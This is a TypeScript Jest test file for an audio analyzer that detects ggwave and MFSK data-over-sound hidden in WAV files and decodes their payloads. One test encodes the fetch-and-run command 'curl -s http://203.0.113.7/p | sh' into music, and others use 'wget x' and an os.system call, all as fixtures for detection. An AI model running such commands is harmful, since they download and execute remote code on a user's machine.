/**
 * Multi-tone data over sound (src/audio/multitone.ts) and ggwave's decoder behind it (src/audio/ggwave.ts), through
 * the modem analyzer. ggwave transmissions are made here with the library itself (npm `ggwave`, MIT).
 */
import { jest } from '@jest/globals';
import { modemAnalyzer } from '../../src/analyzers/audio-modem.js';
import { decodeGgwave, MAX_SECONDS } from '../../src/audio/ggwave.js';
import { findMultitoneIn } from '../../src/audio/multitone.js';
import { computeSpectrogram } from '../../src/audio/stft.js';
import { monoFromArray, type AudioSignal } from '../../src/audio/types.js';
import { ANALYZERS } from '../../src/analyzers/index.js';
import { analyzeFile, toScanFile } from '../../src/analyzers/run.js';
import { defaultOptions } from '../../src/options.js';
import { runAnalyzer, ruleIds, scoreOf } from '../helpers/analyze.js';
import { ggwaveSignal } from '../helpers/ggwave.js';
import { beeps, interleave, mix, music, rng, speech, toInt16, wavFile } from '../helpers/signal.js';

/** `x` with `lead` seconds of silence before and after. */
function padded(x: Float32Array, rate: number, lead = 0.5): Float32Array {
  const n = Math.round(lead * rate);
  const out = new Float32Array(x.length + 2 * n);
  out.set(x, n);
  return out;
}

/**
 * Generic MFSK (not ggwave): `groups` simultaneous tones, each picking one of `perGroup` positions `spacing` Hz apart
 * in its own sub-band above `f0`, for `symbols` symbols of `symbolSeconds`, random data, phase-continuous per tone.
 */
function mfsk(opts: { rate?: number; f0?: number; spacing?: number; groups?: number; perGroup?: number; symbols?: number; symbolSeconds?: number; seed?: number; level?: number } = {}): Float32Array {
  const { rate = 44100, f0 = 3000, spacing = 31.25, groups = 4, perGroup = 8, symbols = 40, symbolSeconds = 0.08, seed = 1, level = 0.3 } = opts;
  const r = rng(seed);
  const len = Math.round(symbolSeconds * rate);
  const x = new Float32Array(len * symbols);
  const ph = new Float64Array(groups);
  for (let s = 0; s < symbols; s++) {
    const fs = Array.from({ length: groups }, (_, g) => f0 + (g * perGroup + Math.floor(r() * perGroup)) * spacing);
    for (let i = 0; i < len; i++) {
      let v = 0;
      for (let g = 0; g < groups; g++) {
        ph[g] += (2 * Math.PI * fs[g]) / rate;
        v += Math.sin(ph[g]);
      }
      x[s * len + i] = (level / groups) * v;
    }
  }
  return x;
}

/** Steady chords of pure sines (no harmonics, equal levels, no decay) on the equal-tempered scale, switching every 150 ms. */
function pureChords(rate = 44100, seconds = 4, seed = 3): Float32Array {
  const r = rng(seed);
  const len = Math.round(0.15 * rate);
  const x = new Float32Array(Math.round(seconds * rate));
  let fs: number[] = [];
  const ph = [0, 0, 0];
  for (let i = 0; i < x.length; i++) {
    if (i % len === 0) {
      const root = 1000 * 2 ** (Math.floor(r() * 24) / 12);
      fs = [root, root * 2 ** (4 / 12), root * 2 ** (7 / 12)];
    }
    let v = 0;
    for (let k = 0; k < 3; k++) {
      ph[k] += (2 * Math.PI * fs[k]) / rate;
      v += Math.sin(ph[k]);
    }
    x[i] = 0.1 * v;
  }
  return x;
}

/** DTMF key presses (two tones of the keypad grid, 100 ms on, 60 ms off), as phone UI sounds dial. */
function dtmf(keys: string, rate = 22050): Float32Array {
  const low = [697, 770, 852, 941];
  const high = [1209, 1336, 1477, 1633];
  const pad = '123A456B789C*0#D';
  const on = Math.round(0.1 * rate);
  const off = Math.round(0.06 * rate);
  const x = new Float32Array(keys.length * (on + off));
  [...keys].forEach((k, j) => {
    const i = Math.max(0, pad.indexOf(k));
    const a = low[i >> 2];
    const b = high[i & 3];
    for (let n = 0; n < on; n++) x[j * (on + off) + n] = 0.25 * (Math.sin((2 * Math.PI * a * n) / rate) + Math.sin((2 * Math.PI * b * n) / rate));
  });
  return x;
}

/** Scale runs of pure sines, one note at a time every 120 ms (a synthesiser arpeggio). */
function arpeggio(rate = 44100, seconds = 4): Float32Array {
  const len = Math.round(0.12 * rate);
  const x = new Float32Array(Math.round(seconds * rate));
  let ph = 0;
  for (let i = 0; i < x.length; i++) {
    const note = Math.floor(i / len) % 15;
    ph += (2 * Math.PI * 1500 * 2 ** (note / 12)) / rate;
    x[i] = 0.3 * Math.sin(ph);
  }
  return x;
}

function signalOf(x: Float32Array, rate: number): AudioSignal {
  return { mono: monoFromArray(x), sampleRate: rate } as unknown as AudioSignal;
}

const evidenceOf = (r: Awaited<ReturnType<typeof runAnalyzer>>, rule = 'audio.modem.multitone') => r.findings.find((f) => f.rule === rule)?.evidence as Record<string, unknown> | undefined;

describe('ggwave decoder (src/audio/ggwave.ts)', () => {
  // first in the file: the module is loaded here, while stdout and stderr are watched
  test('loads lazily, decodes, writes nothing to stdout or stderr and leaves no process handlers behind', async () => {
    const x = padded(await ggwaveSignal('quiet please', 'AUDIBLE_FAST', 48000), 48000);
    const handlers = [process.listenerCount('uncaughtException'), process.listenerCount('unhandledRejection')];
    const writes: string[] = [];
    const out = jest.spyOn(process.stdout, 'write').mockImplementation((s: string | Uint8Array) => (writes.push(String(s)), true));
    const err = jest.spyOn(process.stderr, 'write').mockImplementation((s: string | Uint8Array) => (writes.push(String(s)), true));
    const cons = (['log', 'info', 'warn', 'error', 'debug'] as const).map((m) => jest.spyOn(console, m).mockImplementation((...a: unknown[]) => void writes.push(a.join(' '))));
    let res;
    try {
      res = await decodeGgwave(monoFromArray(x), 48000, 0, x.length);
    } finally {
      out.mockRestore();
      err.mockRestore();
      for (const c of cons) c.mockRestore();
    }
    expect(writes).toEqual([]);
    expect(res.error).toBeNull();
    expect(res.messages.map((m) => Buffer.from(m.bytes).toString())).toEqual(['quiet please']);
    expect([process.listenerCount('uncaughtException'), process.listenerCount('unhandledRejection')]).toEqual(handlers);
  });

  test('resamples other rates (16 kHz to 8 kHz DT) and never throws on hostile input', async () => {
    const x = padded(await ggwaveSignal('low rate', 'DT_FAST', 8000), 8000);
    const r = await decodeGgwave(monoFromArray(x), 8000, 0, x.length);
    expect(r.messages.map((m) => Buffer.from(m.bytes).toString())).toEqual(['low rate']);
    const nan = new Float32Array(48000).fill(NaN);
    for (const [sig, rate, a, b] of [[nan, 48000, 0, 48000], [nan, 0, 0, 1e12], [new Float32Array(10), 48000, 5, 2], [new Float32Array(100), -1, 0, 100]] as const) {
      const g = await decodeGgwave(monoFromArray(sig), rate, a, b);
      expect(g.messages).toEqual([]);
    }
  });

  test('reads at most MAX_SECONDS of a long stretch', async () => {
    const x = new Float32Array(8000 * 120);
    const r = rng(4);
    for (let i = 0; i < x.length; i++) x[i] = 0.1 * (r() - 0.5);
    const g = await decodeGgwave(monoFromArray(x), 8000, 0, x.length);
    expect(g.seconds).toBe(MAX_SECONDS);
    expect(g.messages).toEqual([]);
  });
});

describe('audio.modem.multitone', () => {
  const cases: Array<[string, number]> = [
    ['AUDIBLE_NORMAL', 44100],
    ['AUDIBLE_FAST', 48000],
    ['AUDIBLE_FASTEST', 44100],
    ['AUDIBLE_FASTEST', 48000],
    ['ULTRASOUND_NORMAL', 48000],
    ['ULTRASOUND_FASTEST', 44100],
    ['DT_FAST', 22050],
    ['DT_FASTEST', 44100],
  ];
  test.each(cases)('ggwave %s at %i Hz is found and decoded to its text', async (protocol, rate) => {
    const text = `hello from ${protocol.toLowerCase()}`;
    const r = await runAnalyzer(modemAnalyzer, 'chime.wav', wavFile(toInt16(padded(await ggwaveSignal(text, protocol, rate), rate)), { rate }));
    expect(ruleIds(r)).toEqual(['audio.modem.multitone']);
    expect(scoreOf(r, 'audio.modem.multitone')).toBe(4);
    const ev = evidenceOf(r)!;
    expect(ev.preview).toBe(text);
    expect(ev.spacingHz).toBeCloseTo(46.875, 0);
    expect(r.attachments.map((a) => a.name)).toEqual(['spectrogram.png']);
  });

  test('ggwave under music, in a stereo file, carrying a shell command: multitone and payload', async () => {
    const rate = 44100;
    const cmd = 'curl -s http://203.0.113.7/p | sh';
    const tx = padded(await ggwaveSignal(cmd, 'AUDIBLE_FAST', rate, 20), rate, 1);
    const secs = tx.length / rate;
    const left = mix(music(secs, rate, 21, 0.2), tx);
    const right = mix(music(secs, rate, 22, 0.2), tx);
    const r = await runAnalyzer(modemAnalyzer, 'song.wav', wavFile(toInt16(interleave(left, right), true), { rate, channels: 2 }));
    expect(ruleIds(r)).toEqual(['audio.modem.multitone', 'audio.modem.payload']);
    const f = r.findings.find((x) => x.rule === 'audio.modem.multitone')!;
    expect(f.message).toContain('ggwave');
    expect(f.message).toContain('hxxp://203[.]0[.]113[.]7');
    expect(scoreOf(r, 'audio.modem.payload')).toBeGreaterThanOrEqual(7);
  });

  test('a message too short for the symbol criteria is reported when ggwave decodes it, a short burst it cannot read is not', async () => {
    const rate = 44100;
    const tx = padded(await ggwaveSignal('wget x', 'AUDIBLE_FAST', rate), rate);
    const mono = monoFromArray(tx);
    const scan = findMultitoneIn(mono, rate, computeSpectrogram(signalOf(tx, rate))!);
    expect(scan.best).toBeNull();
    expect(scan.weak).not.toBeNull();
    const r = await runAnalyzer(modemAnalyzer, 'short.wav', wavFile(toInt16(tx), { rate }));
    expect(ruleIds(r)).toEqual(['audio.modem.multitone']);
    expect(scoreOf(r, 'audio.modem.multitone')).toBe(4);
    expect(evidenceOf(r)!.preview).toBe('wget x');
    // six symbols of ggwave-like tones without ggwave's framing: tone-shaped, too short, unreadable: quiet
    const burst = padded(mfsk({ rate, f0: 1875, spacing: 46.875, groups: 6, perGroup: 16, symbolSeconds: 0.128, symbols: 6, seed: 13 }), rate);
    const b = findMultitoneIn(monoFromArray(burst), rate, computeSpectrogram(signalOf(burst, rate))!);
    expect(b.best).toBeNull();
    expect(b.weak).not.toBeNull();
    expect(ruleIds(await runAnalyzer(modemAnalyzer, 'burst.wav', wavFile(toInt16(burst), { rate })))).toEqual([]);
  });

  test('a ggwave message is reported as data over sound, not also as text drawn into the spectrogram', async () => {
    // these tones make glyph-like blocks too: the spectrogram analyzer read them as drawn text (score 3-4)
    const rate = 48000;
    const x = await ggwaveSignal('import os; os.system("id") #AUDIBLE_NORMAL', 'AUDIBLE_NORMAL', rate, 25);
    const pad = new Float32Array(x.length + rate);
    pad.set(x, rate / 2);
    const file = await toScanFile('g.wav', wavFile(toInt16(pad, true), { rate }));
    const r = await analyzeFile(file, ANALYZERS.filter((a) => a.name.startsWith('audio-')), defaultOptions());
    const ids = r.findings.map((f) => f.rule);
    expect(ids).toContain('audio.modem.multitone');
    expect(ids).not.toContain('audio.spectrogram.text');
  });

  test('generic MFSK (not ggwave) is found from its tones alone, at a lower score', async () => {
    const rate = 44100;
    const x = padded(mfsk({ rate, seed: 5 }), rate);
    const r = await runAnalyzer(modemAnalyzer, 'data.wav', wavFile(toInt16(x), { rate }));
    expect(ruleIds(r)).toEqual(['audio.modem.multitone']);
    expect(scoreOf(r, 'audio.modem.multitone')).toBe(3);
    const ev = evidenceOf(r)!;
    expect(ev.spacingHz).toBeCloseTo(31.25, 0);
    expect(ev.tonesPerSymbol).toBeGreaterThanOrEqual(2);
    expect(String(ev.ggwave)).toMatch(/^no ggwave message/);
    // other lattices, tone counts and symbol lengths
    for (const o of [{ spacing: 50, groups: 2, perGroup: 16, symbolSeconds: 0.1, f0: 1200 }, { spacing: 62.5, groups: 6, perGroup: 16, symbolSeconds: 0.05, f0: 2000, rate: 48000 }]) {
      const rr = o.rate ?? rate;
      const y = padded(mfsk({ rate: rr, seed: 6, ...o }), rr);
      const s = await runAnalyzer(modemAnalyzer, 'data2.wav', wavFile(toInt16(y), { rate: rr }));
      expect(ruleIds(s)).toEqual(['audio.modem.multitone']);
    }
  });

  test('tones on ggwave\'s lattice that are not a ggwave message: found, nothing decoded, no payload', async () => {
    const rate = 48000;
    const x = padded(mfsk({ rate, f0: 1875, spacing: 46.875, groups: 6, perGroup: 16, symbolSeconds: 0.128, symbols: 30, seed: 8 }), rate);
    const r = await runAnalyzer(modemAnalyzer, 'fake.wav', wavFile(toInt16(x), { rate }));
    expect(ruleIds(r)).toEqual(['audio.modem.multitone']);
    expect(evidenceOf(r)!.bytes).toBeUndefined();
  });

  test('a long file of tones is searched within bounds', async () => {
    const rate = 8000;
    const x = mfsk({ rate, f0: 1000, spacing: 31.25, groups: 3, perGroup: 16, symbolSeconds: 0.1, symbols: 2000, seed: 9, level: 0.2 });
    // the bound is on the audio searched (200 s here), not on the clock: a timed assertion would say more about the
    // machine than about the search (the test's own timeout still catches a hang)
    const r = await runAnalyzer(modemAnalyzer, 'long.wav', wavFile(toInt16(x), { rate }));
    expect(ruleIds(r)).toEqual(['audio.modem.multitone']);
    expect(String(evidenceOf(r)!.ggwave)).toMatch(/^no ggwave message in (\d+(\.\d+)?) s/);
    expect(Number(/in (\d+(?:\.\d+)?) s/.exec(String(evidenceOf(r)!.ggwave))![1])).toBeLessThanOrEqual(MAX_SECONDS);
  });

  test('dense sound (noise, a comb of many tones) is bounded and quiet', async () => {
    const rate = 48000;
    const r = rng(12);
    const noise = new Float32Array(rate * 2).map(() => 0.3 * (r() - 0.5));
    const comb = new Float32Array(rate * 2);
    for (let i = 0; i < comb.length; i++) {
      let v = 0;
      for (let k = 0; k < 40; k++) v += Math.sin((2 * Math.PI * (1000 + 47 * k + (Math.floor(i / 3072) % 7) * 13) * i) / rate);
      comb[i] = v / 60;
    }
    for (const [name, x] of [['noise', noise], ['comb', comb]] as const) {
      const res = await runAnalyzer(modemAnalyzer, `${name}.wav`, wavFile(toInt16(x), { rate }));
      expect(ruleIds(res)).toEqual([]);
      expect(res.incomplete).toEqual([]);
    }
  });

  test('the search\'s working arrays, kept per thread, carry nothing from one file to the next', () => {
    // tracks and per-window arrays are reused from call to call (src/audio/scratch.ts): a file's result must not depend
    // on what was searched before, whether that had fewer tracks (stale cells past its end) or more (arrays grown)
    const rate = 44100;
    const search = (x: Float32Array): string => JSON.stringify(findMultitoneIn(monoFromArray(x), rate, computeSpectrogram(signalOf(x, rate))!));
    const tones = padded(mfsk({ rate, f0: 2000, spacing: 46.875, groups: 4, perGroup: 8, symbols: 40, seed: 21 }), rate);
    const under = mix(music(tones.length / rate, rate, 22, 0.2), tones);
    const dense = mix(music(12, rate, 23, 0.3), beeps(12, rate, 24), speech(12, rate, 25));
    const first = [search(tones), search(under)];
    expect(JSON.parse(first[0]).best).not.toBeNull();
    expect(JSON.parse(first[1]).candidates.length).toBeGreaterThan(0);
    search(dense);
    expect([search(tones), search(under)]).toEqual(first);
    search(padded(mfsk({ rate, f0: 3000, spacing: 31.25, groups: 2, perGroup: 4, symbols: 12, seed: 26 }), rate, 0.1));
    expect([search(under), search(tones)]).toEqual([first[1], first[0]]);
  });

  const clean: Array<[string, Float32Array, number]> = [
    ['music', music(4, 44100, 31), 44100],
    ['music at 48 kHz', music(4, 48000, 32), 48000],
    ['speech', speech(4, 16000, 33), 16000],
    ['beeps', beeps(4, 44100, 34), 44100],
    ['steady pure-sine chords switching every 150 ms', pureChords(), 44100],
    ['DTMF dialling', dtmf('0123456789*#ABCD5550199'), 22050],
    ['a pure-sine arpeggio', arpeggio(), 44100],
  ];
  test.each(clean)('stays quiet on %s', async (name, x, rate) => {
    const r = await runAnalyzer(modemAnalyzer, `${name}.wav`, wavFile(toInt16(x, true), { rate }));
    expect(ruleIds(r)).toEqual([]);
    expect(findMultitoneIn(monoFromArray(x), rate, computeSpectrogram(signalOf(x, rate))!).best).toBeNull();
  });
});
